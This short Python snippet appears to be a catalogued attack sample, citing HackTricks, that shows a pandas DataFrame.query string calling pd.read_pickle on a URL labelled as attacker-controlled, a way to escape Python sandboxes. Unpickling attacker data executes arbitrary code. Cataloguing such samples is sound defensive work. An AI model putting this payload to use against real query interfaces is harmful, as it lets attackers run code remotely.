# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (df.query("@pd.read_pickle(...)"))
# Family: data-is-code
# What: query calling pd.read_pickle on an attacker URL / file
import pandas as pd

df = pd.DataFrame({"v": [0]})
df.query("@pd.read_pickle('http://127.0.0.1:6334/output.exploit')")
